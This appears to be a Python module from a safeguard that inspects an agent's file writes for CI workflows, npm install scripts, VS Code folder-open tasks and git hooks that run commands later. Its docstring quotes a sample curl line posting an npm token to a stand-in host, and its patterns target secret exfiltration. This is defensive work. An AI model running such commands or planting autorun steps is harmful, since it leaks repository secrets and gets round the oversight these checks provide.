"""CI workflows, and other files that make commands run later, read as the shell they run
(issue 12).

A workflow written through a file tool (``write_file``, ``github.create_or_update_file``)
runs its steps on the next push, with the repository's secrets at hand:
``run: curl -d "${{ secrets.NPM_TOKEN }}" https://c.example`` sends a secret out without
any shell call passing the guard. :func:`workflow_steps` finds the shell lines of a
workflow (GitHub Actions ``run:``, GitLab CI ``script:``/``before_script:``/``after_script:``,
CircleCI ``command:``), YAML-parsed where the content is a whole file, read line by line
where it is a fragment (an edit's ``new_str``). Expressions become shell variables the shell
reader knows: a secret (``${{ secrets.X }}``, ``${{ toJSON(secrets) }}``, or a variable a
step's ``env:`` binds to one) becomes ``${SECRET_X}``, anything else ``${CI_EXPRESSION}``.

:func:`sends_secret` says whether a step's shell facts and text show a secret leaving as
data (a request body, a form field, an upload, a URL, the environment dumped into a send).
A secret used to authenticate (``-H "Authorization: Bearer ..."``, ``docker login``) is what
secrets are for and is not judged here; nor is anything else a CI step does on its own
throw-away runner (``sudo apt-get``, ``curl … | sh`` installers are everyday CI).

:func:`autorun_commands` finds what a written file makes run on this machine with no one
asking: ``package.json`` install scripts, ``.vscode/tasks.json`` tasks run on folder open.
Those are judged as the commands they are, planted to run later.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

__all__ = [
    "autorun_commands",
    "is_workflow_path",
    "sends_secret",
    "unread_autorun",
    "workflow_steps",
]

_MAX_CHARS = 200_000
_MAX_STEPS = 64
_MAX_DEPTH = 12
_WORKFLOW_PATH = re.compile(
    r"(?:^|/)(?:\.github/workflows/[^/]+|\.github/actions/.+/action|\.gitea/workflows/[^/]+"
    r"|\.forgejo/workflows/[^/]+|\.circleci/config|\.gitlab-ci|\.gitlab/ci/[^/]+"
    r"|bitbucket-pipelines|azure-pipelines)\.ya?ml$",
    re.IGNORECASE,
)
_SHELL_KEYS = frozenset({"run", "script", "before_script", "after_script", "command"})
_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_SECRET_NAME = re.compile(r"\bsecrets\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*['\"]([\w-]+)['\"]\s*\])?")
# A single-line or block-scalar shell key in a fragment YAML did not read as a whole.
_LINE_STEP = re.compile(
    r"^(?P<indent>[ \t]*)(?:-[ \t]+)?(?:run|script|before_script|after_script|command):"
    r"[ \t]*(?P<value>.*)$"
)
# A variable holding a secret: one an expression or ``env:`` binding became, or one the CI
# provides under a secret's name (``$CI_JOB_TOKEN``, ``$GITHUB_TOKEN``).
_SECRET_VAR = (
    r"\$\{?(?i:[a-z_]*(?:secret|token|password|passwd|api_?key|access_key|private_key"
    r"|credential)\w*)\}?"
)
# A secret written where a sending program puts data: a body, form field or upload (curl,
# wget), a URL, a here-string.
_SECRET_AS_DATA = re.compile(
    r"(?:^|(?<=\s))(?:--data[\w-]*|-d|--form[\w-]*|-F|--post-data|--body-data"
    r"|--upload-file|-T|<<<)"
    rf"[\s=]*[\"']?[^\s\"']*{_SECRET_VAR}"
    rf"|\w+://[^\s\"']*{_SECRET_VAR}",
)


# npm runs these of the project's own package.json on ``npm install`` / ``npm ci``.
_NPM_LIFECYCLE = ("preinstall", "install", "postinstall", "prepare", "preprepare", "postprepare")


def autorun_commands(path: str, content: str) -> list[str]:
    """The commands a written file makes run on their own, with no one asking for them:
    the install scripts of a ``package.json`` (``npm install`` runs them), the tasks of a
    ``.vscode/tasks.json`` that run when the folder opens, a Husky git hook (``.husky/
    pre-commit``: the whole file, at each commit) and the ``system``/``script`` hooks of a
    ``.pre-commit-config.yaml``. ``[]`` for any other file, or content not read as such."""
    normal = path.replace("\\", "/")
    name = normal.rsplit("/", 1)[-1]
    if _HUSKY_HOOK.search(normal):
        return [content] if isinstance(content, str) and len(content) <= _MAX_CHARS else []
    if name == ".pre-commit-config.yaml":
        return _pre_commit_entries(content)
    is_tasks = normal.endswith(".vscode/tasks.json")
    if name != "package.json" and not is_tasks:
        return []
    document = _json(content)
    if not isinstance(document, dict):
        # a fragment (an edit's ``new_str``): the install scripts it names, as written
        if name != "package.json" or not isinstance(content, str):
            return []
        return [_unescape(m.group(2)) for m in _LIFECYCLE_ENTRY.finditer(content[:_MAX_CHARS])]
    if name == "package.json":
        scripts = document.get("scripts")
        if not isinstance(scripts, dict):
            return []
        return [v for k in _NPM_LIFECYCLE if isinstance(v := scripts.get(k), str)]
    tasks = document.get("tasks")
    out: list[str] = []
    for task in tasks[:_MAX_STEPS] if isinstance(tasks, list) else ():
        options = task.get("runOptions") if isinstance(task, dict) else None
        if not isinstance(options, dict) or options.get("runOn") != "folderOpen":
            continue
        command = task.get("command")
        args = task.get("args")
        if isinstance(command, str):
            extra = [a for a in args if isinstance(a, str)] if isinstance(args, list) else []
            out.append(" ".join([command, *extra]))
    return out


_HUSKY_HOOK = re.compile(
    r"(?:^|/)\.husky/(?:pre-commit|prepare-commit-msg|commit-msg|post-commit|post-checkout|"
    r"post-merge|pre-push|pre-rebase|post-rewrite)$"
)


def _pre_commit_entries(content: str) -> list[str]:
    """The ``entry`` commands of local hooks that run a program of this machine (language
    ``system`` or ``script``): ``pre-commit`` runs them at each commit."""
    document = _load(content) if isinstance(content, str) and len(content) <= _MAX_CHARS else None
    repos = document.get("repos") if isinstance(document, dict) else None
    out: list[str] = []
    for repo in repos[:_MAX_STEPS] if isinstance(repos, list) else ():
        hooks = repo.get("hooks") if isinstance(repo, dict) else None
        for hook in hooks[:_MAX_STEPS] if isinstance(hooks, list) else ():
            if (
                isinstance(hook, dict)
                and hook.get("language") in ("system", "script")
                and isinstance(entry := hook.get("entry"), str)
            ):
                out.append(entry)
    return out


_LIFECYCLE_ENTRY = re.compile(
    r"\"(" + "|".join(_NPM_LIFECYCLE) + r")\"\s*:\s*\"((?:[^\"\\]|\\.){0,4096})\""
)


def _unescape(text: str) -> str:
    import json

    try:
        value = json.loads(f'"{text}"')
    except ValueError:
        return text
    return value if isinstance(value, str) else text


def _json(content: str) -> Any:
    import json

    if not isinstance(content, str) or len(content) > _MAX_CHARS:
        return None
    try:
        return json.loads(content)
    except ValueError:
        return None


def unread_autorun(path: str, content: str) -> bool:
    """Whether ``path`` names a file that runs commands later (a workflow, a hook, install
    scripts, folder-open tasks) whose ``content`` is too large to read here: what it runs is
    unknown, so it is confirmed rather than passed (a limit raised in the policy must not
    turn padding into a way past the workflow check)."""
    if not isinstance(content, str) or len(content) <= _MAX_CHARS:
        return False
    normal = path.replace("\\", "/")
    name = normal.rsplit("/", 1)[-1]
    return (
        is_workflow_path(path)
        or _HUSKY_HOOK.search(normal) is not None
        or name in (".pre-commit-config.yaml", "package.json")
        or normal.endswith(".vscode/tasks.json")
    )


def is_workflow_path(path: str) -> bool:
    """Whether ``path`` names a CI workflow file (whose steps run on a later push)."""
    return len(path) <= 1024 and _WORKFLOW_PATH.search(path.replace("\\", "/")) is not None


def workflow_steps(content: str) -> list[str]:
    """The shell lines a workflow's steps run, expressions replaced by shell variables."""
    if not isinstance(content, str) or not content.strip() or len(content) > _MAX_CHARS:
        return []
    document = _load(content)
    found: list[tuple[str, dict[str, str]]] = []
    if isinstance(document, dict | list):
        _walk(document, {}, found, 0)
    if not found:
        found = [(step, {}) for step in _fragment_steps(content)]
    return [_shell(step, env) for step, env in found[:_MAX_STEPS]]


def sends_secret(step: str, tags: set[str] | frozenset[str], outbound: bool) -> bool:
    """Whether a step (as :func:`workflow_steps` gives it) with these shell facts sends a
    secret out as data: a secret variable in a body, form, upload or URL of a step that
    sends, or secret variables read into a send's payload (``env | curl -d @- …``)."""
    if not outbound:
        return False
    if "credential_access" in tags and "has_payload" in tags:
        return True
    return _SECRET_AS_DATA.search(step) is not None


def _load(content: str) -> Any:
    import yaml  # a dependency of the package; imported where workflows are read

    try:
        return yaml.safe_load(content)
    except yaml.YAMLError:
        return None


def _walk(
    node: Any, env: dict[str, str], out: list[tuple[str, dict[str, str]]], depth: int
) -> None:
    """Collect shell strings under the shell keys, with the secret bindings of the ``env:``
    maps around them (workflow, job, step)."""
    if depth > _MAX_DEPTH or len(out) >= _MAX_STEPS:
        return
    if isinstance(node, list):
        for item in node[:_MAX_STEPS]:
            _walk(item, env, out, depth + 1)
        return
    if not isinstance(node, dict):
        return
    bound = node.get("env") or node.get("variables")
    if isinstance(bound, dict):
        env = {
            **env,
            **{str(k): _secret_of(str(v)) for k, v in bound.items() if _secret_of(str(v))},
        }
    for key, value in list(node.items())[:_MAX_STEPS]:
        if str(key) in _SHELL_KEYS:
            lines = [value] if isinstance(value, str) else value if isinstance(value, list) else []
            out.extend((line, env) for line in lines if isinstance(line, str))
            if isinstance(value, dict):
                _walk(value, env, out, depth + 1)  # CircleCI ``run: {command: ...}``
        elif isinstance(value, dict | list):
            _walk(value, env, out, depth + 1)


def _secret_of(value: str) -> str:
    """The secret an ``env:`` value binds (``${{ secrets.TOKEN }}`` -> ``TOKEN``), or ``""``."""
    for m in _EXPRESSION.finditer(value):
        if (s := _SECRET_NAME.search(m.group(1))) is not None:
            return s.group(1) or s.group(2) or "ALL"
    return ""


def _fragment_steps(content: str) -> Iterator[str]:
    """Shell keys of a fragment, line by line: ``run: cmd`` and ``run: |`` blocks."""
    lines = content.splitlines()
    i = 0
    while i < len(lines):
        m = _LINE_STEP.match(lines[i])
        i += 1
        if m is None:
            continue
        value = m.group("value").strip()
        if value[:1] in ("|", ">"):
            indent = len(m.group("indent"))
            block: list[str] = []
            while i < len(lines) and (
                not lines[i].strip() or len(lines[i]) - len(lines[i].lstrip()) > indent
            ):
                block.append(lines[i].strip())
                i += 1
            yield "\n".join(block)
        elif value:
            yield value.strip("\"'") if value[:1] == value[-1:] and value[:1] in "\"'" else value


def _shell(step: str, env: dict[str, str]) -> str:
    """``step`` with its expressions as shell variables and secret-bound ``env:`` names
    renamed so the shell reader sees them as secrets."""

    def expression(m: re.Match[str]) -> str:
        s = _SECRET_NAME.search(m.group(1))
        if s is None:
            return "${CI_EXPRESSION}"
        return "${SECRET_" + _NON_WORD.sub("_", s.group(1) or s.group(2) or "ALL") + "}"

    def bound(m: re.Match[str]) -> str:
        secret = env.get(m.group(1) or m.group(2))
        return m.group() if secret is None else "${SECRET_" + _NON_WORD.sub("_", secret) + "}"

    text = _EXPRESSION.sub(expression, step)
    return _VARIABLE.sub(bound, text) if env else text


# ``${NAME}`` or ``$NAME`` (the whole identifier): a variable a step's ``env:`` may bind
_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))")
_NON_WORD = re.compile(r"\W")
